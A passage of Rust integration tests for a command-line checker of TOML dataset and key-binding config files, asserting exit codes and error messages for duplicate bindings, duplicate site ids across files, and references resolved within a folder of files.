    let good = dir.path().join("good.toml");
    std::fs::write(&good, "[keys]\nsearch_confirm = \"Tab\"\n").unwrap();
    let bad = dir.path().join("bad.toml");
    std::fs::write(&bad, "[keys]\nquit = \"x\"\ndown = [\"n\", \"Down\"]\n").unwrap();
    for args in [
        ["config", "--config", arg(&good)],
        ["--config", arg(&good), "config"],
    ] {
        let out = run(&args);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", describe(&out));
        assert!(stdout(&out).ends_with(": ok\n"), "{}", describe(&out));
    }
    let out = run(&["config", "--config", arg(&bad)]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(
        stderr(&out).contains("bad.toml:3:8: keys.down: `n` is bound twice"),
        "{}",
        describe(&out)
    );
}

/// Site ids, like deal ids, are unique across the files of a set: a
/// second file defining the same site is an error naming its place.
#[test]
fn a_site_defined_in_two_files_of_a_set_is_an_error() {
    let dir = temp_dir();
    let file = |name: &str, title: &str| {
        let path = dir.path().join(name);
        let text = format!(
            "format = 2\n[dataset]\ntitle = \"{title}\"\nas_of = 2026-01-01\n\n\
             [[sources]]\nid = \"s-{title}\"\ntitle = \"S\"\n\n\
             [[parties]]\nid = \"p-{title}\"\nname = \"P\"\nkind = \"cloud\"\n\n\
             [[sites]]\nid = \"campus\"\nname = \"Campus\"\n"
        );
        std::fs::write(&path, text).unwrap();
        path
    };
    let (a, b) = (file("a.toml", "a"), file("b.toml", "b"));
    let out = run(&["check", arg(&a), arg(&b)]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    let err = stderr(&out);
    assert!(
        err.contains("b.toml:16:6: sites[0].id: duplicate id \"campus\"") && err.contains("a.toml"),
        "{err}"
    );
}

/// Issue 23, item 12: a file of a set checked alone says which file of its
/// folder defines what it names, and which folder to check.
#[test]
fn a_file_of_a_set_checked_alone_names_the_file_that_defines_its_party() {
    let dir = common::temp_dir();
    let parties = "format = 2\n[dataset]\ntitle = \"Parties\"\nas_of = 2026-01-01\n\n\
                   [[sources]]\nid = \"wire\"\ntitle = \"Wire\"\n\n\
                   [[parties]]\nid = \"lab\"\nname = \"Lab\"\nkind = \"lab\"\n";
    let deals = "format = 2\n[dataset]\ntitle = \"Deals\"\nsubject = \"lab\"\nas_of = 2026-01-01\n\n\
                 [[sources]]\nid = \"wire2\"\ntitle = \"Wire\"\n\n\
                 [[parties]]\nid = \"cloud\"\nname = \"Cloud\"\nkind = \"cloud\"\n\n\
                 [[commitments]]\nid = \"d\"\nprovider = \"cloud\"\nstatus = \"signed\"\nsource = \"wire2\"\n";
    std::fs::write(dir.path().join("parties.toml"), parties).expect("write");
    std::fs::write(dir.path().join("deals.toml"), deals).expect("write");
    let alone = dir.path().join("deals.toml");
    let out = run(&["check", common::arg(&alone)]);
    assert_eq!(out.status.code(), Some(1), "{}", common::describe(&out));
    let err = common::stderr(&out);
    assert!(
        err.contains("one file of a set: \"lab\" is defined in"),
        "{err}"
    );
    assert!(err.contains("parties.toml"), "{err}");
    let folder = run(&["check", common::arg(dir.path())]);
    assert_eq!(
        folder.status.code(),
        Some(0),
        "{}",
        common::describe(&folder)
    );
}
